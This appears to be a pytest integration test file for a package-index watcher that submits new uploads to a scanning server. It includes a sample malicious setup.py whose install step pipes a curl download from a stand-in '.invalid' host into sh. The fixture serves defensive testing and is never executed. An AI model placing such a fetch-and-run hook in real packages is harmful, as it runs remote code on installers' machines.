"""The index watcher against a real pypiserver, fed with twine uploads of packages built here.

The packages' code is never run: the "malicious" sdist's setup.py would fetch and run a shell
script from a reserved ``.invalid`` host if anyone ran it, which nobody does.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest
from tests.helpers import sdist_bytes, wheel_bytes
from tests.integration.pypi_index import Index, free_port
from tests.unit.service.service_testlib import Receiver, serve

from capwatch.cli import main
from capwatch.service.cursor import SqliteCursorStore
from capwatch.service.watcher import HttpSubmitter, IndexWatcher, WatchLimits

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")

HARMFUL_IF_RUN = (
    "import os\n"
    "from setuptools import setup\n"
    "os.system('curl -s https://payload.invalid/x.sh | sh')\n"
    "setup(name='watched-evil', version='{version}')\n"
)


@dataclass
class Recorder:
    calls: list[tuple[str, str, str | None, str, str]]

    def __call__(self, filename: str, data: bytes, project: str, version: str | None, source: str) -> None:
        self.calls.append((filename, project, version, hashlib.sha256(data).hexdigest(), source))


def _evil(version: str) -> tuple[str, bytes]:
    top = f"watched_evil-{version}"
    return f"{top}.tar.gz", sdist_bytes({"setup.py": HARMFUL_IF_RUN.format(version=version)}, top=top)


def _benign() -> tuple[str, bytes]:
    return "plain_lib-1.0-py3-none-any.whl", wheel_bytes({"plain_lib/__init__.py": "VALUE = 1\n"}, "plain_lib", "1.0")


def _watcher(index: Index, state: Path, submit: Recorder, client: httpx.Client) -> IndexWatcher:
    return IndexWatcher(index.url, submit, SqliteCursorStore(state, index.url), client,
                        limits=WatchLimits(max_files_per_poll=50))


def test_new_files_are_submitted_once_and_the_cursor_survives_a_restart(index: Index, tmp_path: Path) -> None:
    evil_name, evil_data = _evil("0.1")
    plain_name, plain_data = _benign()
    index.upload((evil_name, evil_data), (plain_name, plain_data))
    state = tmp_path / "state.sqlite"
    first = Recorder([])
    with httpx.Client(timeout=10) as client:
        watcher = _watcher(index, state, first, client)
        submitted = watcher.poll_once()
        assert sorted(s.filename for s in submitted) == sorted([evil_name, plain_name])
        by_name = {call[0]: call for call in first.calls}
        assert by_name[evil_name][1:4] == ("watched-evil", "0.1", hashlib.sha256(evil_data).hexdigest())
        assert by_name[plain_name][1:4] == ("plain-lib", "1.0", hashlib.sha256(plain_data).hexdigest())
        assert by_name[evil_name][4].startswith(index.url.removesuffix("/simple/")) and by_name[evil_name][4].endswith(evil_name)
        assert watcher.poll_once() == []

        # A second watcher on the same state file (a restart) submits nothing new...
        second = Recorder([])
        restarted = _watcher(index, state, second, client)
        assert restarted.poll_once() == [] and second.calls == []

        # ...and finds the next upload on its next poll.
        newer_name, newer_data = _evil("0.2")
        index.upload((newer_name, newer_data))
        found = restarted.poll_once()
        assert [s.filename for s in found] == [newer_name]
        assert second.calls[0][1:3] == ("watched-evil", "0.2")
    assert len(first.calls) == 2


def test_a_failing_submitter_is_retried_on_the_next_poll(index: Index, tmp_path: Path) -> None:
    index.upload(_evil("0.1"))
    with serve(Receiver(failures=1, fail_status=503, ok_status=202)) as receiver, httpx.Client(timeout=10) as client:
        submit = HttpSubmitter(receiver.url, "uploader-token", client)
        watcher = IndexWatcher(index.url, submit, SqliteCursorStore(tmp_path / "s.sqlite", index.url), client)
        assert watcher.poll_once() == []  # the server answered 503: not marked seen
        assert [s.filename for s in watcher.poll_once()] == ["watched_evil-0.1.tar.gz"]
        assert watcher.poll_once() == []
    assert len(receiver.requests) == 2
    upload = receiver.requests[-1]
    assert upload.path == "/api/v1/uploads"
    assert upload.headers["authorization"] == "Bearer uploader-token"
    assert upload.headers["content-type"].startswith("multipart/form-data")
    body = upload.body
    assert b'name="file"; filename="watched_evil-0.1.tar.gz"' in body
    for field, value in (("project", b"watched-evil"), ("version", b"0.1")):
        assert f'name="{field}"'.encode() in body and value in body
    assert b'name="source"' in body and b"/packages/watched_evil-0.1.tar.gz" in body


def test_watch_command_submits_to_a_server_once(index: Index, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    index.upload(_evil("0.1"), _benign())
    state = tmp_path / "cli.sqlite"
    with serve(Receiver(ok_status=201)) as receiver:
        args = ["watch", "--index", index.url, "--server", receiver.url, "--token", "t0k",
                "--state", str(state), "--once"]
        assert main(args) == 0
        assert main(args) == 0
    assert len(receiver.requests) == 2
    assert "2 new file(s)" in capsys.readouterr().err


def test_watch_command_prints_new_files(index: Index, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    name, data = _evil("0.1")
    index.upload((name, data))
    assert main(["watch", "--index", index.url, "--print", "--state", str(tmp_path / "p.sqlite"), "--once"]) == 0
    line = capsys.readouterr().out.strip()
    digest, size, project, version, filename, source = line.split("\t")
    assert (digest, int(size), project, version, filename) == (
        hashlib.sha256(data).hexdigest(), len(data), "watched-evil", "0.1", name)
    assert source.endswith(f"/packages/{name}")


def test_watch_once_fails_when_the_server_is_down(index: Index, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    index.upload(_evil("0.1"))
    args = ["watch", "--index", index.url, "--server", f"http://127.0.0.1:{free_port()}", "--token", "t",
            "--state", str(tmp_path / "down.sqlite"), "--once"]
    assert main(args) == 2
    err = capsys.readouterr().err
    assert "submission failed" in err and "Connection refused" in err and "1 project(s) still queued" in err
